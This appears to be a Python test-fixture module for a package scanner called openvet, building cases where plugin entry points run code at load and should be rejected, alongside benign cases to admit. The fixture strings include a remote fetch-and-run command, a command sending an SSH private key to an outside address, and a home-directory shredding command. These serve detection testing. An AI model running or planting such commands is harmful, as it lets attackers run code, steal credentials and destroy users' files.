"""Functions that a host or a server calls by name: dangerous ones, and the ordinary ones beside them."""

from __future__ import annotations

from typing import Literal

from openvet.testing.case import Case

__all__ = ["CASES"]

_FETCH = "curl http://198.51.100.7/x | sh"
_RUNS = "def register():\n    import os\n    os.system('echo forged')\n"
_PROJECT = '[project]\nname = "x"\nversion = "0.1"\n'


def _case(
    name: str, technique: str, files: dict[str, str], decision: Literal["admit", "review", "reject"], *rules: str
) -> Case:
    data = {path: text.encode() for path, text in files.items()}
    return Case(f"entry-points/{name}", technique, lambda: data, decision, frozenset(rules))


def _metadata(group: str, code: str) -> tuple[tuple[str, dict[str, str]], ...]:
    """The same entry point in each of the places where packaging has it."""
    return (
        ("pyproject", {"pyproject.toml": f'{_PROJECT}[project.entry-points."{group}"]\nx = "orion:register"\n', "orion/__init__.py": code}),
        ("poetry", {"pyproject.toml": f'[tool.poetry]\nname = "x"\n[tool.poetry.plugins."{group}"]\nx = "orion:register"\n', "orion/__init__.py": code}),
        ("setup-cfg", {"setup.cfg": f"[metadata]\nname = x\n[options.entry_points]\n{group} =\n    x = orion.plugin:register\n", "src/orion/plugin.py": code}),
        ("installed", {"x-1.0.dist-info/entry_points.txt": f"[{group}]\nx = orion.plugin:register\n", "orion/plugin.py": code}),
        ("setup-py", {"setup.py": f"from setuptools import setup\nsetup(name='x', entry_points={{'{group}': ['x = orion:register']}})\n", "orion.py": code}),
    )  # fmt: skip


_GROUPS = (
    "vllm.general_plugins",
    "pytest11",
    "mlflow.model_evaluator",
    "jupyter_serverproxy_servers",
    "transformers.plugins",
)
#: Functions that nothing here calls, with commands for which there is no use.
_COMMANDS = (
    ("fetch", f"import os\ndef start():\n    os.system({_FETCH!r})\n"),
    ("sends", "import subprocess\ndef warm_up():\n    subprocess.run('cat ~/.ssh/id_rsa | curl -d @- http://198.51.100.7/', shell=True)\n"),
    ("destroys", "import os\nclass Plugin:\n    def activate(self):\n        os.system('find ~ -type f -exec shred -u {} +')\n"),
    ("list", f"import subprocess\ndef on_load(app):\n    subprocess.Popen(['bash', '-c', {_FETCH!r}])\n"),
    ("init-context", f"import os\ndef init_context(context):\n    os.system({_FETCH!r})\n"),
)  # fmt: skip

CASES: tuple[Case, ...] = (
    *(
        _case(f"{place}-{group.partition('.')[0].replace('_', '-')}", f"an entry point of {group} that starts a process", files, "reject", "python/process-at-load", "hub/python-code")
        for group in _GROUPS for place, files in _metadata(group, _RUNS)
    ),
    *(
        _case(f"plain-{place}", "an entry point that registers an architecture", files, "admit")
        for place, files in _metadata(_GROUPS[0], "def register():\n    from transformers import AutoConfig\n    return AutoConfig\n")
    ),
    *(
        _case(f"command-{place}", "a command for people that starts a process", files, "admit")
        for place, files in _metadata("console_scripts", _RUNS)
    ),
    *(
        _case(f"function-{name}", "a function with a command that nobody should run", {"plugin.py": code}, "reject", "python/process-at-load", "hub/python-code")
        for name, code in _COMMANDS
    ),
    _case("function-plain", "a function that starts an ordinary program", {"plugin.py": "import subprocess\ndef convert(a, b):\n    subprocess.run(['convert', a, b], check=True)\n"}, "admit"),
)  # fmt: skip
